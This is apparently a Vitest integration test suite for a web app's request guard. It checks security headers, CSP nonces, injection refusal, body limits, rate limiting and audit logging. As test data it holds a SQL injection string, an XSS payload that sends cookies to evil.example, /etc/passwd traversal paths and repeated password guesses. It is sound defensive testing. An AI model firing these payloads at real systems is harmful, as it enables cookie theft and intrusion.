import { request as httpRequest } from "node:http";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openDb, type Db } from "@/lib/db/client";
import { signInOverHttp, spawnServer, stopServer, waitReady, type RunningServer } from "../support/server";
import { describeWithService, redisAvailable } from "../support/services";

const redisUp = await redisAvailable();

/** A production server for the describe block, with its SQLite audit log opened for reading. */
function useServerWithAuditDb(env: Record<string, string>) {
  const running = {} as { server: RunningServer; db: Db };
  beforeAll(async () => {
    running.server = await spawnServer(env);
    await waitReady(running.server);
    running.db = await openDb({ provider: "sqlite", file: join(running.server.dataDir, "printguard.db") });
  }, 90_000);
  afterAll(async () => {
    await running.db?.$disconnect();
    await stopServer(running.server, { removeData: true });
  });
  return running;
}

/** Polls the server's audit log (it is written in the background) for an event matching `where`. */
async function auditEvent(db: Db, where: Record<string, unknown>, timeoutMs = 5_000) {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const row = await db.auditEvent.findFirst({ where, orderBy: { seq: "desc" } });
    if (row || Date.now() > deadline) return row;
    await new Promise((r) => setTimeout(r, 200));
  }
}

async function problemOf(response: Response) {
  expect(response.headers.get("content-type")).toBe("application/problem+json");
  return (await response.json()) as { type: string; status: number; detail: string; requestId: string };
}

describe("request guard in the production server", () => {
  const running = useServerWithAuditDb({ PRINTGUARD_ADMIN_EMAIL: "admin@guard.test", PRINTGUARD_ADMIN_PASSWORD: "guard-admin-password" });

  it("pages get a CSP whose per-request nonce is on every script Next renders", async () => {
    const response = await fetch(`${running.server.url}/login`);
    const csp = response.headers.get("content-security-policy")!;
    const nonce = /'nonce-([^']+)'/.exec(csp)?.[1];
    expect(nonce).toBeTruthy();
    expect(csp).toContain("frame-ancestors 'none'");
    const html = await response.text();
    const scripts = html.match(/<script\b[^>]*>/g) ?? [];
    expect(scripts.length).toBeGreaterThan(0);
    for (const tag of scripts) expect(tag).toContain(`nonce="${nonce}"`);
    const again = await fetch(`${running.server.url}/login`);
    expect(again.headers.get("content-security-policy")).not.toContain(nonce!);
    for (const [name, value] of [["x-content-type-options", "nosniff"], ["x-frame-options", "DENY"], ["cross-origin-opener-policy", "same-origin"], ["cross-origin-resource-policy", "same-origin"], ["referrer-policy", "strict-origin-when-cross-origin"]]) {
      expect(response.headers.get(name!)).toBe(value);
    }
    expect(response.headers.get("permissions-policy")).toContain("camera=()");
    expect(response.headers.get("strict-transport-security")).toBeNull(); // plain http here
    // No trusted proxy here: a client claiming https is not believed.
    const claimed = await fetch(`${running.server.url}/api/health`, { headers: { "x-forwarded-proto": "https" } });
    expect(claimed.headers.get("strict-transport-security")).toBeNull();
    expect(response.headers.get("x-powered-by")).toBeNull();
  });

  it("an injection in a query value is refused with 403 problem+json and audited with its family, location and redacted evidence", async () => {
    const response = await fetch(`${running.server.url}/api/health?printer=1%27%20UNION%20SELECT%20password%20FROM%20users--`);
    expect(response.status).toBe(403);
    const problem = await problemOf(response);
    expect(problem.type).toMatch(/\/malicious-input$/);
    expect(problem.detail).toContain("query.printer");
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    const event = await auditEvent(running.db, { type: "input.rejected", requestId: problem.requestId });
    expect(event).toMatchObject({ outcome: "blocked", method: "GET", route: "/api/health", ip: "127.0.0.1" });
    expect(["high", "critical"]).toContain(event!.level);
    const details = JSON.parse(event!.details);
    expect(details.findings[0]).toMatchObject({ family: "sql_injection", location: "query.printer" });
    expect(details.findings[0].evidence.length).toBeLessThanOrEqual(80);
  });

  it("a JSON body is inspected without being consumed: an attack is refused, a benign body reaches the route whole", async () => {
    const attack = await fetch(`${running.server.url}/api/health`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ job: { prompt: "<script>fetch('//evil.example/?c='+document.cookie)</script>" } }) });
    expect(attack.status).toBe(403);
    expect((await problemOf(attack)).detail).toContain("body.job.prompt");

    const signIn = await signInOverHttp(running.server.url, "admin@guard.test", "guard-admin-password");
    const note = "M104 S200 ; set hotend temperature — select the PLA profile & drop the bed 5 % (don't use 'tree' supports)";
    const created = await fetch(`${running.server.url}/api/admin/users`, {
      method: "POST",
      headers: { "content-type": "application/json", cookie: signIn.sessionCookie!, "sec-fetch-site": "same-origin" },
      body: JSON.stringify({ email: "printer-op@guard.test", name: note.slice(0, 100), password: "a long initial password" }),
    });
    expect(created.status).toBe(201);
    expect((await created.json()).user.name).toBe(note.slice(0, 100));
  });

  it("a body over the limit gets 413 problem+json, never a silent pass", async () => {
    const response = await fetch(`${running.server.url}/api/health`, { method: "POST", headers: { "content-type": "text/plain" }, body: "x".repeat(1024 * 1024 + 1) });
    expect(response.status).toBe(413);
    expect((await problemOf(response)).type).toMatch(/\/payload-too-large$/);
    // Without a Content-Length (chunked), the body is measured as it is read.
    const chunked = await new Promise<number>((resolve, reject) => {
      const req = httpRequest(`${running.server.url}/api/health`, { method: "POST", headers: { "content-type": "text/plain", "transfer-encoding": "chunked" } }, (res) => {
        res.resume();
        resolve(res.statusCode ?? 0);
      });
      req.on("error", reject);
      for (let i = 0; i < 17; i++) req.write("y".repeat(64 * 1024));
      req.end();
    });
    expect(chunked).toBe(413);
  });

  it("the limit the proxy consumed is what a route handler reports (one limiter per process)", async () => {
    const signIn = await signInOverHttp(running.server.url, "admin@guard.test", "guard-admin-password");
    const created = await fetch(`${running.server.url}/api/admin/api-keys`, {
      method: "POST",
      headers: { "content-type": "application/json", cookie: signIn.sessionCookie!, "sec-fetch-site": "same-origin" },
      body: JSON.stringify({ name: "shared-state probe", scopes: ["status:read"] }),
    });
    const { key } = await created.json();
    const usage = async () => {
      const body = await (await fetch(`${running.server.url}/api/me`, { headers: { authorization: `Bearer ${key}` } })).json();
      return body.rateLimit.find((p: { policy: string }) => p.policy === "per-user") as { limit: number; remaining: number };
    };
    const first = await usage();
    expect(first.remaining).toBe(first.limit - 1); // counted once, by the proxy, before the route ran
    const second = await usage();
    expect(second.remaining).toBe(first.limit - 2);
  });

  it("unknown API routes and pages still get the guard's headers", async () => {
    const response = await fetch(`${running.server.url}/api/nothing-here`);
    expect(response.status).toBe(404);
    expect(response.headers.get("content-security-policy")).toContain("default-src 'none'");
    expect(response.headers.get("ratelimit-policy")).toMatch(/^"per-ip(-burst)?";q=\d+;w=\d+$/);
  });

  it("refusals, Next's own 404 pages and targets whose path resolves elsewhere carry every security header once", async () => {
    const raw = (target: string) =>
      new Promise<{ status: number; headers: Record<string, string | string[] | undefined> }>((resolve, reject) => {
        // node:http sends the target as written (fetch would resolve the dot segments first).
        const req = httpRequest(`${running.server.url}${target}`, { path: target }, (res) => {
          res.resume();
          resolve({ status: res.statusCode!, headers: res.headers });
        });
        req.on("error", reject).end();
      });
    const cases = [
      { target: "/api/health?file=..%2f..%2fetc%2fpasswd", status: 403, api: true }, // refused by the sanitizer
      { target: "/no-such-page", status: 404, api: false }, // Next's own not-found page
      { target: "/x/../api/health", status: 403, api: true }, // the server chose a page's set, the guard an API's
      { target: "/api/../login", status: 403, api: false },
    ];
    for (const { target, status, api } of cases) {
      const { status: got, headers } = await raw(target);
      expect(got, target).toBe(status);
      for (const name of ["x-content-type-options", "x-frame-options", "referrer-policy", "permissions-policy", "cross-origin-opener-policy", "cross-origin-resource-policy", "x-request-id"]) {
        expect(typeof headers[name], `${target} ${name}`).toBe("string");
      }
      // Node joins a repeated header with ", ": exact values prove each came once.
      expect(headers["x-content-type-options"], target).toBe("nosniff");
      expect(headers["x-frame-options"], target).toBe("DENY");
      const csp = headers["content-security-policy"];
      expect(typeof csp, target).toBe("string");
      expect(csp, target).not.toMatch(/, default-src/);
      expect(csp, target).toContain(api ? "default-src 'none'" : "'nonce-");
    }
  });
});

describe("rate limits in the production server", () => {
  const running = useServerWithAuditDb({ RATE_LIMIT_POLICIES: JSON.stringify({ "per-ip": { limit: 8, window: "1m" } }) });

  it("allowed responses carry RateLimit headers; past the limit 429 problem+json with Retry-After; X-Forwarded-For from an untrusted client changes nothing", async () => {
    // /api/ready was polled by waitReady; count what is left from the headers rather than assume.
    const first = await fetch(`${running.server.url}/api/health`, { headers: { "x-forwarded-for": "198.51.100.1" } });
    expect(first.status).toBe(200);
    expect(first.headers.get("ratelimit-policy")).toBeTruthy();
    // Written once, straight onto the response by our server's slot (no copy from the proxy's own
    // response as well): fetch joins a repeated header with ", ", so repeated items would show.
    for (const response of [first, await fetch(`${running.server.url}/login`, { redirect: "manual" })]) {
      for (const name of ["ratelimit", "ratelimit-policy"]) {
        expect(response.headers.get(name), `${response.url} ${name}`).toBeTruthy();
        const items = response.headers.get(name)!.split(", ").map((item) => item.split(";")[0]);
        expect(new Set(items).size, `${response.url} ${name}: ${response.headers.get(name)}`).toBe(items.length);
      }
    }
    const left = Number(/r=(\d+)/.exec(first.headers.get("ratelimit") ?? "")?.[1]);
    expect(left).toBeGreaterThanOrEqual(0);
    let last: Response = first;
    for (let i = 0; i <= left + 1; i++) {
      // A different spoofed address every time: if the guard believed it, it would never limit.
      last = await fetch(`${running.server.url}/api/health`, { headers: { "x-forwarded-for": `198.51.100.${i + 2}` } });
      if (last.status === 429) break;
    }
    expect(last.status).toBe(429);
    expect(Number(last.headers.get("retry-after"))).toBeGreaterThan(0);
    const problem = await problemOf(last);
    expect(problem.type).toMatch(/\/rate-limited$/);
    const event = await auditEvent(running.db, { type: { in: ["ratelimit.exceeded", "ratelimit.penalty"] }, requestId: problem.requestId });
    expect(event).toMatchObject({ outcome: "blocked", ip: "127.0.0.1" });
  });

});

describe("a server behind a trusted proxy, sanitizer in monitor mode", () => {
  const running = useServerWithAuditDb({ TRUST_PROXY: "1", SANITIZER_MODE: "monitor" });

  it("HSTS when the trusted proxy says the client came over https", async () => {
    const viaTls = await fetch(`${running.server.url}/api/health`, { headers: { "x-forwarded-proto": "https" } });
    expect(viaTls.headers.get("strict-transport-security")).toBe("max-age=63072000; includeSubDomains");
    const page = await fetch(`${running.server.url}/login`, { headers: { "x-forwarded-proto": "https" } });
    expect(page.headers.get("strict-transport-security")).toBe("max-age=63072000; includeSubDomains");
    expect(page.headers.get("content-security-policy")).toContain("upgrade-insecure-requests");
    const plain = await fetch(`${running.server.url}/api/health`);
    expect(plain.headers.get("strict-transport-security")).toBeNull();
  });

  it("monitor mode lets an attack through and audits it as flagged, with the client address the trusted proxy gave", async () => {
    const response = await fetch(`${running.server.url}/api/health?file=..%2f..%2f..%2fetc%2fpasswd`, { headers: { "x-forwarded-for": "192.0.2.44" } });
    expect(response.status).toBe(200);
    const requestId = response.headers.get("x-request-id")!;
    const event = await auditEvent(running.db, { type: "input.flagged", requestId });
    expect(event).toMatchObject({ outcome: "flagged", ip: "192.0.2.44" });
    expect(JSON.parse(event!.details).findings[0]).toMatchObject({ family: "path_traversal", location: "query.file", mode: "monitor" });
  });

  it("the sixth attempt for one email within 15 minutes is refused, whatever address it comes from", async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 6; i++) {
      const response = await fetch(`${running.server.url}/api/auth/callback/credentials`, {
        method: "POST",
        // The trusted proxy (one hop) reports a different client each time.
        headers: { "content-type": "application/x-www-form-urlencoded", "x-forwarded-for": `203.0.113.${i + 1}` },
        body: new URLSearchParams({ email: "Victim@Example.com", password: `guess-${i}`, csrfToken: "x" }),
      });
      statuses.push(response.status);
    }
    expect(statuses.slice(0, 5)).not.toContain(429);
    expect(statuses[5]).toBe(429);
  });
});

// This suite is about sharing counts, not about the store timeout: on a loaded machine a 50 ms
// deadline fails open (by design, audited), which would let the fourth request through.
// The shared count is a token bucket of 3 refilled once an hour: a sliding window of 1 minute
// weighs the previous window down as the next one goes on, so when a minute boundary fell between
// the third request and the second server's first (~4 s to start it), 3 counts read as 2.x and the
// fourth request passed (seen once in a CI run under load).
const SHARED_REDIS_ENV = {
  REDIS_URL: "redis://127.0.0.1:6379",
  TRUST_PROXY: "1",
  RATE_LIMIT_STORE_TIMEOUT_MS: "5000",
  RATE_LIMIT_POLICIES: JSON.stringify({ "per-ip-burst": { capacity: 3, refill: 1, interval: "60m" } }),
};

describeWithService("redis", redisUp)("rate limits shared through Redis (REDIS_URL)", () => {
  let server: RunningServer;
  beforeAll(async () => {
    // A limit no other test run could share: the Redis keys are per client IP and policy.
    server = await spawnServer(SHARED_REDIS_ENV);
    await waitReady(server);
  }, 90_000);
  afterAll(() => stopServer(server, { removeData: true }));

  it("counts in Redis: a second server process sees the first one's count for the same client", async () => {
    const client = `198.51.100.${Math.floor(Math.random() * 200) + 20}`;
    const statuses: number[] = [];
    for (let i = 0; i < 3; i++) statuses.push((await fetch(`${server.url}/api/health`, { headers: { "x-forwarded-for": client } })).status);
    expect(statuses).toEqual([200, 200, 200]);
    const second = await spawnServer(SHARED_REDIS_ENV);
    try {
      await waitReady(second);
      const refused = await fetch(`${second.url}/api/health`, { headers: { "x-forwarded-for": client } });
      expect(refused.status).toBe(429);
    } finally {
      await stopServer(second, { removeData: true });
    }
  });
});
